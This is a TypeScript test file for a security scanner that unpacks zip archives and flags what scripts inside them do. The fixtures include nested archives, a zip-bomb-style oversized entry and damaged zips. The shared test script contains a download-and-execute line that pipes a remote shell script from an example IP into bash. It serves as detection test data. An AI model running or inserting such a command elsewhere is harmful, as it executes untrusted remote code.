import { strToU8, zipSync } from "fflate";
import { expect, test } from "vitest";
import { deedsOf } from "../../../src/facts/extract.ts";
import { isHostValue } from "../../../src/facts/fact.ts";
import { chainsIn } from "../../../src/facts/judge/chains.ts";

const script = "#!/bin/sh\necho hello\ncurl -s http://203.0.113.9/x.sh | bash\n";
const deedsIn = (path: string, bytes: Uint8Array) => deedsOf([{ path, bytes }]);
const unread = (path: string, bytes: Uint8Array) =>
  deedsIn(path, bytes)
    .filter(({ kind }) => kind === "unread")
    .map(({ file, value }) => [file, value]);

test("a zipped script is read, with its line and its chain", () => {
  const deeds = deedsIn(
    "tools.zip",
    zipSync({ "bin/setup.sh": strToU8(script), "logo.png": new Uint8Array([137, 0]) }),
  );
  expect(deeds.flatMap(({ value, file, line }) => (isHostValue(value) ? [[value.host, file, line]] : []))).toEqual([
    ["203.0.113.9", "tools.zip/bin/setup.sh", 3],
  ]);
  expect(deeds.some(({ kind, file }) => kind === "binary" && file === "tools.zip")).toBe(true);
  expect(chainsIn(deeds)).not.toEqual([]);
  expect(unread("tools.zip", zipSync({ "bin/setup.sh": strToU8(script) }))).toEqual([]);
});

test("an archive in an archive is not read, and that is said", () => {
  const inner = zipSync({ "a.sh": strToU8(script) });
  expect(unread("a.zip", zipSync({ "b.zip": inner }))).toEqual([["a.zip/b.zip", "depth"]]);
});

test("no more is unpacked than a file may have, whatever its sizes say", () => {
  const bomb = zipSync({ "a.txt": new Uint8Array(5_000_000).fill(97), "b.sh": strToU8(script) });
  expect(unread("a.zip", bomb)).toEqual([
    ["a.zip/a.txt", "size"],
    ["a.zip/b.sh", "size"],
  ]);
  const many = zipSync(Object.fromEntries(Array.from({ length: 501 }, (_, n) => [`${n}.txt`, strToU8("a")])));
  expect(unread("a.zip", many)).toEqual([["a.zip/500.txt", "size"]]);
});

test("what has a password, is cut or has no reader is said", () => {
  const sound = zipSync({ "a.sh": strToU8(script) });
  const locked = Uint8Array.from(sound);
  locked[6]! |= 1;
  expect(unread("a.zip", locked)).toEqual([["a.zip", "language"]]);
  expect(unread("a.zip", sound.subarray(0, 60))).toEqual([["a.zip", "syntax"]]);
  const damaged = Uint8Array.from(sound);
  damaged.fill(255, 34, 40);
  expect(unread("a.zip", damaged)).toEqual([["a.zip/a.sh", "syntax"]]);
  expect(unread("a.tgz", new Uint8Array([0x1f, 0x8b, 8, 0, 0, 0, 0, 0]))).toEqual([["a.tgz", "language"]]);
});

test("an office document is no archive to its reader", () => {
  expect(unread("form.docx", zipSync({ "word/document.xml": strToU8("<a/>") }))).toEqual([]);
});

test("any cut or changed zip is read to its end", () => {
  const sound = zipSync({ "a.sh": strToU8(script), "b/c.py": strToU8("import os\n") });
  for (let at = 0; at < sound.length; at++) {
    expect(() => deedsIn("a.zip", sound.subarray(0, at))).not.toThrow();
    const changed = Uint8Array.from(sound);
    changed[at] = 255 - changed[at]!;
    expect(() => deedsIn("a.zip", changed)).not.toThrow();
  }
});
